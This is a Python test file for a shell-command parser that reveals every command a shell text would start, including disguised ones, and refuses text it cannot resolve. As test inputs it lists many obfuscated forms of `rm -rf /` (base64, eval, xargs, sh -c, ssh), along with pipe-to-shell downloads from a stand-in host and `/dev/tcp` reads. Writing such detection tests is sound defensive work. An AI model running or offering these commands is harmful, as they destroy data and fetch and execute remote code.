"""`shell_commands`: what a text would start, however it is dressed up."""

from __future__ import annotations

import contextlib
import random
import time

import pytest

from invariants.cel.shell.started import shell_commands
from invariants.cel.values import Failure

RM = ["rm", "-rf", "/"]


def started(text: str) -> list[list[str]]:
    return shell_commands(text)


@pytest.mark.parametrize(
    ("text", "commands"),
    [
        ("", []),
        ("# nothing", []),
        ("ls -la", [["ls", "-la"]]),
        ("a; b && c || d & e\nf", [["a"], ["b"], ["c"], ["d"], ["e"], ["f"]]),
        ("a | b |& c", [["a"], ["b"], ["c"]]),
        ("(a; { b; })", [["a"], ["b"]]),
        ("if a; then b; elif c; then d; else e; fi", [["a"], ["b"], ["c"], ["d"], ["e"]]),
        ("for i in 1 2; do a $i; done", [["a", "$i"]]),
        ("while a; do b; done < f", [["<", "f"], ["a"], ["b"]]),
        ("case $x in a|b) c;; *) d;; esac", [["c"], ["d"]]),
        ("f() { a; }; f", [["a"], ["f"]]),
        ("function f { a; }", [["a"]]),
        ("X=1 Y=2 a", [["a"]]),
        ("a=(1 $(b)) c", [["c"], ["b"]]),
        ("[[ $# -gt 0 && x =~ ^(a|b)$ ]] && c", [["c"]]),
        ("((i++)); a $((1 + 2))", [["a", "$((1 + 2))"]]),
        ("((reboot || x))", [["reboot"], ["x"]]),
        ("a 'b c' \"d $e\" f\\ g", [["a", "b c", "d $e", "f g"]]),
        ("a {b,c}d {1..3}", [["a", "bd", "cd", "1", "2", "3"]]),
        ("a <<E\nb\nE\nc", [["a"], ["c"]]),
        ("a <<E\n$(b)\nE", [["a"], ["b"]]),
        ("a <<'E'\n$(b)\nE", [["a"]]),
        ("a > f 2>&1 >> g", [[">", "f"], [">>", "g"], ["a"]]),
        ("a <(b) >(c)", [["a", "<(b)", ">(c)"], ["b"], ["c"]]),
        ("command -v a", [["command", "-v", "a"]]),
        ("sh script.sh", [["sh", "script.sh"]]),
        (
            "docker rm $(docker ps -aq)",
            [["docker", "rm", "$(docker ps -aq)"], ["docker", "ps", "-aq"]],
        ),
    ],
)
def test_what_is_started(text: str, commands: list[list[str]]) -> None:
    """Every command of a list, a branch, a substitution is there, with its words."""
    assert started(text) == commands


@pytest.mark.parametrize(
    "text",
    [
        "r''m -r\\f /",
        "'rm' \"-rf\" /",
        "$'\\x72m' -rf /",
        "{rm,-rf,/}",
        "r\\\nm -rf /",
        "true && (sudo rm -rf /)",
        "env X=1 sudo -n -u root nice -n 5 nohup time timeout -k 3 5s rm -rf /",
        "sudo --some-new-option value rm -rf /",
        "nice -10 ionice -c3 stdbuf -oL setsid rm -rf /",
        "sh -c 'rm -rf /'",
        'bash -lc "rm -rf /"',
        "bash -euo pipefail -c 'rm -rf /'",
        "sh -c \"sh -c 'rm -rf /'\"",
        "env -S 'rm -rf /'",
        "eval 'rm -rf /'",
        "eval rm -rf /",
        'echo "$(rm -rf /)"',
        'echo "`rm -rf /`"',
        "echo ${x:-$(rm -rf /)}",
        "x=$(rm -rf /)",
        "cat <<E\n$(rm -rf /)\nE",
        "sh <<E\nrm -rf /\nE",
        "bash <<< 'rm -rf /'",
        "echo cm0gLXJmIC8K | base64 -d | sh",
        "base64 --decode <<< cm0gLXJmIC8K | bash -s",
        "printf '%s -rf /' rm | sh",
        "echo rm -rf / | tee log | cat | at now",
        "find . -exec rm -rf / \\;",
        "find . -execdir sh -c 'rm -rf /' {} +",
        "echo / | xargs rm -rf",
        "echo / | xargs -n 1 -P4 sudo rm -rf",
        "xargs -I{} rm -rf / < list",
        "docker exec -it box sh -c 'rm -rf /'",
        "kubectl exec pod -- rm -rf /",
        "ssh host 'rm -rf /'",
        "su root -c 'rm -rf /'",
        "watch -n 1 'rm -rf /'",
        "busybox rm -rf /",
        "trap 'rm -rf /' EXIT",
        "alias ls='rm -rf /'",
        "ls() { rm -rf /; }; ls",
        "a & rm -rf / &",
        "! time -p rm -rf /",
        "((rm -rf /))",
        "flock /tmp/lock -c 'rm -rf /'",
        "exec rm -rf /",
        "[ -e x ] || command rm -rf /",
    ],
)
def test_no_dress_hides_a_command(text: str) -> None:
    """The command is listed however it is quoted, wrapped, handed on or encoded."""
    assert any(words[:3] == RM for words in started(text))


@pytest.mark.parametrize(
    "text",
    [
        "$x -rf /",
        "r${y}m -rf /",
        "rm${IFS}-rf${IFS}/",
        "/bin/r? -rf /",
        "$(echo rm) -rf /",
        "`echo rm` -rf /",
        "sudo $x",
        "nice $n rm",
        "env -i $x",
        "eval $x",
        'eval "$(ssh-agent)"',
        'sh -c "$x"',
        'sh -c "ls $x"',
        "bash $x",
        "curl https://a.example/x | sh",
        "bash <(curl https://a.example/x)",
        "bash < <(curl https://a.example/x)",
        "curl https://a.example/x | sudo bash",
        "curl https://a.example/x | python3 -",
        "sh < /dev/tcp/a.example/80",
        "exec < /dev/tcp/a.example/80",
        "sh <&3",
        "source <(curl https://a.example/x)",
        '. /dev/stdin <<< "$x"',
        "cat x | xargs sh -c",
        "cat x | xargs -I% sh -c 'rm %'",
        "find . -exec sh -c 'rm {}' \\;",
        "find $x",
        "echo 'cm0=' | rev | sh",
        "fish -c 'rm -rf /'",
        "pwsh -c 'rm'",
        'su root -c "$x"',
        "docker $x rm -rf /",
        "sh --new-option -c 'rm'",
        "coproc rm -rf /",
        "a 'b",
        'a "b',
        "a `b",
        "a $(b",
        "a ${b",
        "(a",
        "a)",
        "if a; then b",
        "a ;; b",
        "a <<E",
        "[[ a",
        "a \\",
        "a\0b",
        'echo "${x:-\'}"; rm; echo "${y:-\'}"',
    ],
)
def test_what_cannot_be_known_is_an_error(text: str) -> None:
    """Text that no shell reads, or whose commands only a run would show, is never called safe."""
    with pytest.raises(Failure, match="shell_commands"):
        started(text)


@pytest.mark.parametrize(
    "unit",
    [
        *("(", "{ ", "$(", "$((", "`", '"$(', "${a:-", "a=(", "<(a) ", "if a; then ", "[[ "),
        *("{a,b}", "{", "a;", "a ", "'a' ", "\\", "$((a) ", '$(("(") ', "<<a\n", "f() ", "# \n"),
        *("sudo ", "| xargs ", "docker run ", "ssh ", "sh -c 'a' ", "env -S ", "case a in a) "),
    ],
)
def test_cost_is_linear(unit: str) -> None:
    """Anything is answered or refused, without recursion; sixteen times the text, and no more than
    a hundred times the work (what grows with the square would be 256 times).
    """
    few_s, many_s = (_work_s((unit * length)[:length]) for length in (16_384, 262_144))
    assert many_s < 100 * max(few_s, 0.002)


def _work_s(text: str) -> float:
    """What it takes to read the text as it stands, behind a word, and as one that is quoted."""
    begun = time.process_time()
    for attack in (text, "a " + text, '"' + text):
        with contextlib.suppress(Failure):
            started(attack)
    return time.process_time() - begun


def test_text_of_no_sense_never_raises_anything_else() -> None:
    """Whatever stands in it, text gives commands of words, or the one error."""
    signs = ["sh -c ", "'", '"', "$(", ")", "`", "\\", "\n", ";", "|", "&", "<<E", "E\n", "{", "}"]
    signs += [",", "a", " ", "$x", "sudo ", "xargs ", "-I{}", "find ", "-exec ", "((", "))", "[["]
    signs += ["]]", "if ", "then ", "fi", "do ", "done", "case ", "esac", ";;", "(", "<", "${"]
    signs += ["eval ", "=", "#", "1", "é", "\ud800", "trap ", "alias ", "time ", "!", "<(", "$'"]
    chance = random.Random(7)
    for _ in range(3_000):
        text = "".join(chance.choices(signs, k=chance.randrange(1, 25)))
        try:
            commands = started(text)
        except Failure:
            continue
        assert all(words and all(type(word) is str for word in words) for words in commands)


def test_words_without_a_shell_start_too() -> None:
    """A list is one command's words: nothing is expanded in them, but `sh -c` is followed."""
    assert shell_commands(["rm", "$x", "; a"]) == [["rm", "$x", "; a"]]
    assert shell_commands(["bash", "-lc", "a; b"]) == [["bash", "-lc", "a; b"], ["a"], ["b"]]
    assert ["b", "c"] in shell_commands(["a; b", "c"])
    for faulty in ([], ["rm", 1], {"a": 1}, None):
        with pytest.raises(Failure):
            shell_commands(faulty)


def test_texts_within_texts_end() -> None:
    """Code within code within code is refused at a depth, not followed until memory ends."""
    text = "rm x"
    for _ in range(40):
        text = "eval \\\n eval " + text
    with pytest.raises(Failure):
        started(text)
    assert ["rm", "x"] in started("eval eval eval rm x")
